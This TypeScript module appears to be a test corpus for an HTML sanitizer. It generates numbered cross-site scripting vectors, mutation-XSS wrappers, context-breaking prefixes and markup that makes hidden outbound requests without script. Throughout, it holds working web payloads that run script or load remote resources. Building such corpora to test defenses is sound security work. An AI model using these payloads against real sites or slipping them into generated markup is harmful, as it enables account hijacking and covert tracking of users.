/*
 * Shapes of cross-site scripting and of hidden requests, after public lists but written anew. `js`
 * is a script without quotes and spaces, `url` an address; both contain the vector's number, which
 * identifies whatever runs or loads.
 */

/** One way to run a script or make a request. */
export type Shape = (js: string, url: string) => string;

/** Scripts that run when the markup is rendered or a user interacts with it. */
const SCRIPTS: readonly Shape[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT >${js}</SCRIPT\t>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<script type="module">${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (_js, url) => `<script src="${url}.js" async></script>`,
  (_js, url) => `<script src=${url}.js></script >`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror="${js}"//`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror\n=\n${js}>`,
  (js) => `<IMG SRC=x OnErRoR="${js}">`,
  (js) => `<img src=x:x onerror=${js} alt="">`,
  (js) => `<img src=x oneonerrorrror=${js} onerror=${js}>`,
  (js) => `<img src="x" onload="${js}" onerror="${js}" onabort="${js}">`,
  (js) => `<img """><script>${js}</script>">`,
  (js) => `<img srcset=x onerror=${js}>`,
  (js) => `<img src=x onerror=&#${js.charCodeAt(0)};${js.slice(1)}>`,
  (js) => `<image src=x onerror=${js}>`,
  (js) => `<picture><source srcset=x><img src=x onerror=${js}></picture>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}//`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<svg><script>&#115;elf;${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  (js) => `<svg><set onbegin=${js} attributename=x dur=1s></svg>`,
  (js) =>
    `<svg><a><animate attributeName=href values=javascript:${js} /><text x=9 y=20>a</text></a></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x=9 y=20>b</text></a></svg>`,
  (js) => `<svg><image href=x onerror=${js} /></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  (js) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  (js) => `<svg><title><svg onload=${js}></title></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${js}'/>#x"/></svg>`,
  (js) => `<math href="javascript:${js}">a</math>`,
  (js) => `<math><mi xlink:href="javascript:${js}">b</mi></math>`,
  (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">c</maction></math>`,
  (js) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) =>
    `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=${js}></annotation-xml></math>`,
  (js) =>
    `<math><semantics><annotation encoding="text/html"><img src=x onerror=${js}></annotation></semantics></math>`,
  (js) => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js} onresize=${js} onhashchange=${js}>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=parent.${js}&gt;"></iframe>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) =>
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`,
  (js) => `<a href="javascript:${js}">d</a>`,
  (js) => `<a href=" &#14; javascript:${js}">e</a>`,
  (js) => `<a href="java&#x09;script:${js}">f</a>`,
  (js) => `<a href="java\nscript:${js}">g</a>`,
  (js) => `<a href="JaVaScRiPt&colon;${js}">h</a>`,
  (js) => `<a href="&#106;avascript:${js}">i</a>`,
  (js) => `<a href="javascript://x%0a${js}">j</a>`,
  (js) => `<a href="vbscript:${js}">k</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">l</a>`,
  (js) => `<a href="data:text/html;base64,${btoa(`<script>${js}</script>`)}">m</a>`,
  (js) => `<a href="\u0001javascript:${js}">n</a>`,
  (js) => `<a href="view-source:javascript:${js}">o</a>`,
  (js) => `<a href="blob:javascript:${js}">p</a>`,
  (js) => `<a href="#" onclick="${js}" onmouseover=${js} onfocus=${js} autofocus>q</a>`,
  (js) => `<area href="javascript:${js}" shape=default>`,
  (js) => `<form action="javascript:${js}"><button>r</button></form>`,
  (js) => `<form><button formaction="javascript:${js}">s</button></form>`,
  (js) =>
    `<form id=f><input type=submit formaction=javascript:${js}></form><button form=f formaction=javascript:${js}>t</button>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<input type=image src=x onerror=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<details open ontoggle=${js}>u</details>`,
  (js) => `<marquee onstart=${js}>v</marquee>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<video><source onerror=${js} src=x></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<link rel=stylesheet href=x onerror=${js}>`,
  (js) => `<style onload=${js}></style>`,
  (js) =>
    `<p style="animation:x" onanimationstart=${js} onanimationend=${js}>w</p><style>@keyframes x{}</style>`,
  (js) => `<p style="width:expression(${js});-moz-binding:url(data:text/xml,${js})">y</p>`,
  (js) => `<p onpointerrawupdate=${js} onwheel=${js} onscroll=${js} oncopy=${js}>z</p>`,
  (js) => `<p contenteditable onblur=${js} onbeforeinput=${js}>a</p>`,
  (js) => `<p popover id=pop onbeforetoggle=${js}>a</p><button popovertarget=pop>b</button>`,
  (js) => `<dialog open onclose=${js}>c</dialog>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js) => `<base href="javascript:${js}//"><a href="#x">d</a>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  (js) => `<div><template shadowrootmode=open><svg onload=${js}></svg></template></div>`,
  (js) => `<x onclick=${js} tabindex=1 id=x onfocus=${js}>e</x>`,
  (js) => `<custom-element onload=${js} is=x onerror=${js}>f</custom-element>`,
  (js) => `<q cite="javascript:${js}">g</q><blockquote cite="javascript:${js}">h</blockquote>`,
  (js) => `<table background="javascript:${js}"><tr><td background="javascript:${js}">i</table>`,
  (js) => `<applet code="javascript:${js}"></applet><bgsound src="javascript:${js}">`,
  (js) => `<img src="javascript:${js}" lowsrc="javascript:${js}" dynsrc="javascript:${js}">`,
  (js) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`,
  (js) => `<img src="data:text/html,<script>${js}</script>" srcset="javascript:${js} 2x">`,
  (js) => `\u0000<img src=x onerror=${js}\u0000>`,
  (js) => `<img src=x onerror=${js} \u2028 x=\u00a0>`,
  (js) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?><?php echo("<script>${js}</script>") ?>`,
  (js) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  (js) => `<!DOCTYPE x [<!ENTITY e "<script>${js}</script>">]>&e;`,
  (js) => `&lt;img src=x onerror=${js}&gt;&lt;script&gt;${js}&lt;/script&gt;`,
  (js) =>
    `<img name=getElementById><form name=body><input name=attributes onfocus=${js} autofocus></form>`,
  (js) =>
    `<form id=documentElement><input name=nodeName><input name=removeChild></form><img src=x onerror=${js}>`,
  (js) =>
    `<a id=defaultView href=javascript:${js}></a><a id=defaultView name=top href=javascript:${js}>j</a>`,
];

/** Requests made without a script. Those made only by images of an article are not here. */
const REQUESTS: readonly Shape[] = [
  (_js, url) => `<iframe src="${url}"></iframe>`,
  (_js, url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (_js, url) => `<object data="${url}"></object>`,
  (_js, url) => `<embed src="${url}">`,
  (_js, url) => `<link rel=stylesheet href="${url}.css">`,
  (_js, url) => `<link rel=preload as=image href="${url}">`,
  (_js, url) => `<link rel=preload as=image imagesrcset="${url} 1x">`,
  (_js, url) => `<link rel=prefetch href="${url}"><link rel=modulepreload href="${url}.js">`,
  (_js, url) => `<link rel=icon href="${url}"><link rel=manifest href="${url}">`,
  (_js, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (_js, url) => `<style>@import "${url}.css";</style>`,
  (_js, url) => `<style>@import url(${url}.css);</style>`,
  (_js, url) =>
    `<style>@font-face{font-family:f;src:url(${url}.woff)}p{font-family:f,serif}</style>`,
  (_js, url) => `<style>p::before{content:url(${url})}</style>`,
  (_js, url) => `<p style="background-image:url(${url})">k</p>`,
  (_js, url) => `<p style="background:u\\72l('${url}')">l</p>`,
  (_js, url) => `<p style="border-image:url(${url});border:9px solid">m</p>`,
  (_js, url) =>
    `<p style="mask-image:url(${url});filter:url(${url}#f);clip-path:url(${url}#c)">n</p>`,
  (_js, url) => `<p style="background:image-set(url(${url}) 1x)">o</p>`,
  (_js, url) => `<ul><li style="list-style-image:url(${url})">p</ul>`,
  (_js, url) => `<p style="cursor:url(${url}),auto;shape-outside:url(${url});float:left">q</p>`,
  (_js, url) => `<video poster="${url}" controls></video>`,
  (_js, url) => `<video src="${url}" autoplay preload=auto></video>`,
  (_js, url) => `<audio src="${url}" autoplay preload=auto></audio>`,
  (_js, url) => `<video><source src="${url}"><track default kind=captions src="${url}"></video>`,
  (_js, url) => `<input type=image src="${url}">`,
  (_js, url) => `<table background="${url}"><tr><td background="${url}">r</table>`,
  (_js, url) => `<body background="${url}">`,
  (_js, url) => `<svg><image href="${url}" width=9 height=9 /></svg>`,
  (_js, url) => `<svg><image xlink:href="${url}" width=9 height=9 /></svg>`,
  (_js, url) => `<svg><use href="${url}#x"/></svg>`,
  (_js, url) =>
    `<svg width=9 height=9><filter id=f><feImage href="${url}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (_js, url) => `<svg><style>@import "${url}.css";</style></svg>`,
  (_js, url) =>
    `<svg><rect fill="url(${url}#p)" style="fill:url(${url}#q)" width=9 height=9 /></svg>`,
  (_js, url) => `<svg><script href="${url}.js"></script></svg>`,
  (_js, url) => `<svg><foreignObject><iframe src="${url}"></iframe></foreignObject></svg>`,
  (_js, url) => `<math><mtext><iframe src="${url}"></iframe></mtext></math>`,
  (_js, url) => `<math><mspace style="background:url(${url})"/></math>`,
  (_js, url) => `<a href="#" ping="${url}">s</a>`,
  (_js, url) => `<form action="${url}" method=post><button formaction="${url}">t</button></form>`,
  (_js, url) => `<base href="${url}/"><script src="x.js"></script>`,
  (_js, url) => `<frameset><frame src="${url}"></frameset>`,
  (_js, url) => `<template shadowrootmode=open><link rel=stylesheet href="${url}.css"></template>`,
  (_js, url) =>
    `<div><template shadowrootmode=open><iframe src="${url}"></iframe></template></div>`,
  (_js, url) => `<portal src="${url}"></portal><applet codebase="${url}"></applet>`,
  (_js, url) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  (_js, url) => `<del cite="${url}">u</del><q cite="${url}">v</q>`,
  (_js, url) => `<html manifest="${url}">`,
];

export const SHAPES: readonly Shape[] = [...SCRIPTS, ...REQUESTS];

/** Payloads to hide where parsing again, or in another namespace, brings them out. */
export const CORES: readonly Shape[] = [
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<a href="javascript:${js}">w</a>`,
  (js) => `<details open ontoggle=${js}>`,
  (_js, url) => `<iframe src=${url}>`,
  (_js, url) => `<style>@import '${url}';</style>`,
  (_js, url) => `<object data=${url}>`,
];

const quoted = (core: string) => core.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const escaped = (core: string) => quoted(core).replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** Mutation XSS: markup that parses differently when it is serialised and parsed again. */
export const MUTATIONS: readonly ((core: string) => string)[] = [
  (core) => `<noscript><p title="</noscript>${quoted(core)}"></p></noscript>`,
  (core) => `<svg></p><style><a id="</style>${quoted(core)}"></style></svg>`,
  (core) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped(core)}"></table></mtext></math>`,
  (core) => `<form><math><mtext></form><form><mglyph><style></math>${core}</style></form>`,
  (core) => `<math><mtext><mglyph><style><![CDATA[</style>${core}]]></mglyph></mtext></math>`,
  (core) => `<svg><![CDATA[><p title="]]>${quoted(core)}"></p></svg>`,
  (core) => `<template><p title="</template>${quoted(core)}"></p></template>`,
  (core) => `<textarea><p title="</textarea>${quoted(core)}"></p></textarea>`,
  (core) => `<xmp><p title="</xmp>${quoted(core)}"></p></xmp>`,
  (core) => `<noembed><p title="</noembed>${quoted(core)}"></p></noembed>`,
  (core) => `<noframes><p title="</noframes>${quoted(core)}"></p></noframes>`,
  (core) => `<iframe><p title="</iframe>${quoted(core)}"></p></iframe>`,
  (core) => `<title><p title="</title>${quoted(core)}"></p></title>`,
  (core) => `<svg><title><p title="</title></svg>${quoted(core)}"></p></title></svg>`,
  (core) =>
    `<select><template><style><!--</style><a rel="--></style></template></select>${quoted(core)}"></a>`,
  (core) => `<p id="--><!--${escaped(core)}"><!-- --!>${core}<!-- --></p>`,
  (core) => `<!--><p title="-->${quoted(core)}"></p>-->`,
  (core) =>
    `<math><annotation-xml encoding="text/html"><style><!--</style><p title="--></style>${quoted(core)}"></p></annotation-xml></math>`,
  (core) =>
    `<svg><foreignObject><math><mi><style><!--</style>${core}</mi></math></foreignObject></svg>`,
  (core) =>
    `<table><caption><svg><desc><style>${core}</style></desc></svg></caption><tr><td>${core}</table>`,
  (core) => `<p title="\`>${escaped(core)}\`">x</p><pre><code>${escaped(core)}</code></pre>`,
  (core) => `<a><a><b><table><a>${core}</table></b></a></a>`,
];

/** Prefixes that break out of contexts for text, to be followed by a core. */
export const BREAKS: readonly string[] = [
  '',
  '"><',
  "'>",
  '">',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</a></p></h1>',
  '&#34;&gt;',
];
